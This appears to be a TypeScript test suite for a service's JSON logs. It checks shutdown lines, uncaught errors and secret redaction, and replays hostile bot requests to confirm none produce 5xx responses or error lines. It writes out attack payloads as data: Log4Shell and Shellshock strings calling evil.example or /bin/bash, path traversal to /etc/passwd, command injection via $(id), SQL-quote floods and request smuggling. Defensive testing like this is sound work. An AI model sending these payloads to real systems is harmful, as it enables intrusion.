import { readFileSync } from 'node:fs';
import { endOfBuiltApp, startBuiltApp, type BuiltApp } from './support/built-app.js';
import { eventually } from './support/eventually.js';
import { freePort } from './support/free-port.js';
import { head, RawClient } from './support/raw-client.js';
import { PLATFORM, System } from './support/system.js';

type Line = Record<string, any>;

/** On SIGWINCH, what Node and libraries write by themselves; and an error that nobody catches. */
const MISBEHAVES = `data:text/javascript,${encodeURIComponent(`
  process.on('SIGWINCH', () => {
    process.emitWarning('this is a warning');
    console.error('two\\nlines of %s', 'somebody');
    Promise.reject(new Error('nobody waits for it'));
  });
`)}`;

const LEVELS = ['fatal', 'error', 'warn', 'info', 'debug', 'verbose'];

let system: System;
beforeAll(async () => {
  system = await System.start({ withWorker: false });
  await system.registerPlatform();
});
afterAll(() => system.close());

/** A process, and every line that it writes to either stream. */
async function started(app: 'api' | 'worker', env: Record<string, string> = {}) {
  const lines: Line[] = [];
  const port = await freePort();
  const running = await startBuiltApp(app, { ...system.environment, PORT: String(port), ...env }, (text) => {
    // What is no JSON fails here.
    lines.push(JSON.parse(text) as Line);
  });
  const line = (isIt: (one: Line) => boolean) =>
    eventually(
      () => Promise.resolve(lines.find(isIt)),
      (found) => found !== undefined,
    );
  return { ...running, lines, line, url: `http://127.0.0.1:${port}` };
}

function expectWellFormed(lines: Line[]): void {
  for (const line of lines) {
    expect(line).toMatchObject({ timestamp: expect.stringMatching(/^\d{4}-.*Z$/), pid: expect.any(Number) });
    expect(typeof line.message).toBe('string');
    expect(LEVELS).toContain(line.level);
  }
}

describe.each(['api', 'worker'] as const)('the log of the %s', (app) => {
  it('begins and ends with the version, also by SIGTERM', async () => {
    const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { version: string };
    const running = await started(app);
    const { pid, lines, line } = running;
    expect(await line(({ message }) => /listens|runs/.test(message))).toMatchObject({ level: 'info', version, pid });
    expect(await running.end('SIGTERM')).toBe(0);
    expect(await line(({ message }) => message === `${app} stops`)).toMatchObject({ signal: 'SIGTERM' });
    expect(await line(({ message }) => message === `${app} stopped`)).toMatchObject({ version, pid, exit_code: 0 });
    expectWellFormed(lines);
  });

  it('has warnings of Node, words on the console, and an error that nobody catches, as lines', async () => {
    const { pid, lines, line } = await started(app, { NODE_OPTIONS: `--import=${MISBEHAVES}` });
    process.kill(pid, 'SIGWINCH');
    expect(await line(({ message }) => message === `${app} stopped`)).toMatchObject({ exit_code: 1 });
    await line(({ level }) => level === 'fatal');
    // They come by two streams.
    for (const told of [
      { level: 'warn', message: 'on the console', text: 'two\nlines of somebody' },
      { level: 'warn', message: 'warning of Node', error: expect.objectContaining({ message: 'this is a warning' }) },
      {
        level: 'fatal',
        message: 'the process ends of an error that nobody caught',
        origin: 'unhandledRejection',
        error: expect.objectContaining({ type: 'Error', message: 'nobody waits for it' }),
      },
    ]) {
      expect(lines).toContainEqual(expect.objectContaining(told));
    }
    expectWellFormed(lines);
  });

  it('takes the level by its old name', async () => {
    const running = await started(app, { LOG_LEVEL: 'log' });
    expect(running.lines.map(({ level }) => level)).toContain('info');
    await running.end('SIGTERM');
  });

  it('has one line for settings that cannot be used, without their values', async () => {
    const { lines, exitCode } = await endOfBuiltApp(app, {
      ...system.environment,
      DATABASE_URL: 'mysql://u:hunter2@h/d',
      LOG_LEVEL: 'loud',
    });
    expect(exitCode).toBe(1);
    expect(lines.map((text) => JSON.parse(text) as Line)).toMatchObject([
      {
        level: 'fatal',
        message: 'the start has ended: the settings cannot be used',
        problems: [expect.stringContaining('DATABASE_URL '), expect.stringContaining('LOG_LEVEL ')],
      },
    ]);
    expect(lines.join()).not.toMatch(/hunter2|loud/);
  });
});

describe('the log of requests', () => {
  let api: Awaited<ReturnType<typeof started>>;
  beforeAll(async () => {
    api = await started('api');
  });
  afterAll(() => (api as BuiltApp).end('SIGTERM'));

  const authorization = () => `Bearer ${system.apiKey}`;
  const requestLine = (id: string | null) =>
    api.line(({ message, request_id }) => message === 'request' && request_id === id);

  it('has one line for each, by its route, with the key and the time, and nothing that was sent', async () => {
    const secret = 'merchant-of-somebody';
    const answer = await fetch(`${api.url}/v1/merchants/${secret}?q=${secret}`, {
      headers: { authorization: authorization(), 'user-agent': secret },
    });
    const id = answer.headers.get('x-request-id');
    const line = await requestLine(id);
    const [key] = await system.sql<{ id: string }>('SELECT id FROM api_keys');
    expect(line).toEqual({
      timestamp: expect.any(String),
      level: 'info',
      message: 'request',
      context: 'Requests',
      pid: api.pid,
      request_id: id,
      method: 'GET',
      route: '/v1/merchants/:appid',
      status: answer.status,
      ms: expect.any(Number),
      key_id: key?.id,
    });
    expect(api.lines.filter(({ message, request_id }) => message === 'request' && request_id === id)).toHaveLength(1);
    expect(JSON.stringify(api.lines)).not.toContain(secret);
  });

  it('has none for probes that find all well', async () => {
    for (const path of ['/health/live', '/health/ready']) expect((await fetch(api.url + path)).status).toBe(200);
    const scrape = await fetch(`${api.url}/metrics`, { headers: { authorization: authorization() } });
    expect(scrape.status).toBe(200);
    const refused = await fetch(`${api.url}/metrics`);
    await requestLine(refused.headers.get('x-request-id'));
    const ofProbes = api.lines.filter(({ route }) => /health|metrics/.test(route ?? ''));
    expect(ofProbes).toMatchObject([{ route: '/metrics', status: 401 }]);
  });

  it('has no stack and nothing at error for what bots send', async () => {
    const before = api.lines.length;
    const pushes = `/wechat/${PLATFORM.component_appid}/events`;
    const long = 'a'.repeat(20_000);
    const requests: [line: string, headers?: Record<string, string | number>, rest?: string][] = [
      ['GET /wp-login.php'],
      ['GET /.env'],
      ['GET /.git/config'],
      ['GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)'],
      ['GET /%'],
      ['GET /%c0%af%c0%af/etc/passwd'],
      ['GET /..%2f..%2f..%2fetc%2fpasswd'],
      ['GET /console/assets/..%2f..%2f..%2fpackage.json'],
      ['GET /console/assets/%00'],
      ['GET //evil.example/%2e%2e'],
      ['GET http://evil.example/proxied'],
      ['GET *'],
      [`GET /${long.slice(0, 3_000)}`],
      [`GET /v1/merchants/${long.slice(0, 3_000)}`],
      ['GET /v1/deletions/%00', { authorization: authorization() }],
      [`GET /v1/deletions/${'%27'.repeat(50)}--`, { authorization: authorization() }],
      ['GET /v1/merchants?limit=1e99&cursor=%00', { authorization: authorization() }],
      ['GET /v1/merchants?__proto__[x]=1&q=%ed%a0%80', { authorization: authorization() }],
      ['GET /v1/merchants', { authorization: 'Basic YWRtaW46YWRtaW4=' }],
      ['GET /v1/merchants', { authorization: `Bearer ${'x'.repeat(5_000)}` }],
      ['GET /v1/merchants', { cookie: 'retract_session=%00%ff; a=b; ==;' }],
      ['GET /', { 'x-filler': long }],
      ['GET /', { 'x-request-id': '${jndi:ldap://evil.example/a}', 'user-agent': '() { :; }; /bin/bash -c id' }],
      ['GET /', { traceparent: '00-zz-zz-zz', tracestate: long.slice(0, 600) }],
      ['GET /', { 'x-forwarded-for': "127.0.0.1'--, ::ffff:0", forwarded: 'for=_hidden' }],
      ['HEAD /docs'],
      ['TRACE /'],
      ['PROPFIND /'],
      ['CONNECT evil.example:443'],
      ['OPTIONS /v1/merchants', { origin: 'https://evil.example', 'access-control-request-method': 'DELETE' }],
      ['POST /', { 'content-type': 'application/json', 'content-length': 2 }, '{}'],
      ['POST /v1/session', { 'content-type': 'application/json', 'content-length': 5 }, '{"a":'],
      ['POST /v1/session', { 'content-type': 'application/json; charset=utf-7', 'content-length': 2 }, '{}'],
      ['POST /v1/session', { 'content-type': 'a/b/c;;', 'content-length': 2 }, '{}'],
      [
        'POST /v1/session',
        { 'content-encoding': 'gzip', 'content-type': 'application/json', 'content-length': 2 },
        '{}',
      ],
      ['POST /v1/session', { 'transfer-encoding': 'chunked', 'content-type': 'application/json' }, 'zz\r\n'],
      ['POST /v1/session', { 'content-length': 'many' }, '{}'],
      ['POST /v1/session', { 'content-length': 2, 'transfer-encoding': 'chunked' }, '0\r\n\r\n'],
      [`POST ${pushes}`, { 'content-type': 'text/xml', 'content-length': 5 }, '<xml>'],
      [
        `POST ${pushes}?msg_signature=a&timestamp=b&nonce=c`,
        { 'content-type': 'text/xml', 'content-length': 5 },
        '<xml>',
      ],
      [`POST ${pushes}?timestamp=9e99&nonce=%00&signature[]=1`, { 'content-type': 'text/xml', 'content-length': 0 }],
      [`POST ${pushes}`, { 'content-type': 'text/xml', 'content-length': 10_000_000 }, '<xml>'],
      ['POST /wechat/wxnobody/events', { 'content-type': 'text/xml', 'content-length': 11 }, '<xml></xml>'],
      ['POST /wechat/%00/messages/%ff', { 'content-type': 'text/xml', 'content-length': 5 }, '<xml>'],
      [`GET ${pushes}?echostr=1`],
      ['GET /authorize/wxnobody'],
      [`GET /authorize/${PLATFORM.component_appid}?state=x&auth_code=%00`],
      [`GET /authorize/${PLATFORM.component_appid}/callback?state=../../x&auth_code=queryauthcode@@@x`],
      ['GET /docs/problems/nothing'],
      ['GET /docs/%5c..%5c'],
    ];
    const statuses: number[] = [];
    for (const [line, headers, rest = ''] of requests) {
      const client = await RawClient.open(api.url, head(line, { connection: 'close', ...headers }) + rest);
      const { status } = await client.untilClosed(60_000);
      statuses.push(status);
      client.close();
    }
    const garbage = [
      'GET / HTTP/9.9\r\n\r\n',
      'GET /\r\n\r\n',
      'hello\r\n\r\n',
      '\0\0\0\0\r\n\r\n',
      'GET / HTTP/1.1\r\nno colon here\r\n\r\n',
      'GET / HTTP/1.1\r\nhost: a\r\nhost : b\r\n\r\n',
      'GET / HTTP/1.1\r\nx: \x01\x02\r\n\r\n',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
      // The hello of TLS to the port of plain HTTP, the first words of SSH and of a remote desktop, of SMB and of Redis.
      Buffer.from('16030100c8010000c40303', 'hex'),
      'SSH-2.0-Go\r\n',
      Buffer.from('0300002f2ae00000000000436f6f6b69653a206d737473686173683d41646d696e6973747200', 'hex'),
      Buffer.from('00000045ff534d4272', 'hex'),
      '*1\r\n$4\r\nPING\r\n',
    ];
    for (const text of garbage) {
      const client = await RawClient.open(api.url, text);
      await client.untilClosed(60_000);
      client.close();
    }
    // Those that hang up in the middle.
    const begun = { authorization: authorization(), 'content-length': 100 };
    for (const text of [
      '',
      'GET / HT',
      `${head('POST /v1/session', { 'content-length': 100 })}{`,
      `${head('POST /v1/session', { ...begun, 'content-type': 'application/json' })}{`,
      `${head('POST /v1/deletions', { ...begun, 'content-type': 'application/json' })}{`,
      `${head('POST /v1/deletions', { ...begun, 'content-type': 'application/json', 'content-encoding': 'gzip' })}\x1f`,
      `${head('POST /v1/mass-messages', { ...begun, 'content-type': 'application/x-ndjson' })}{`,
      `${head(`POST ${pushes}`, { 'content-type': 'text/xml', 'content-length': 100 })}<xml>`,
    ]) {
      (await RawClient.open(api.url, text)).close();
    }
    const last = await fetch(`${api.url}/the-end`);
    await requestLine(last.headers.get('x-request-id'));

    expect(statuses.filter((status) => status >= 500)).toEqual([]);
    const told = api.lines.slice(before);
    expect(told.filter(({ level }) => level === 'error' || level === 'fatal')).toEqual([]);
    expect(told.filter((line) => /stack|\n\s+at /.test(JSON.stringify(line)))).toEqual([]);
    expectWellFormed(told);
    expect(told.filter(({ message }) => message === 'request').length).toBeGreaterThanOrEqual(requests.length);
    // What they sent is nowhere, but for an id of a request that could stand there.
    expect(JSON.stringify(told)).not.toMatch(/wp-login|passwd|jndi|evil\.example|queryauthcode/);
  });
});
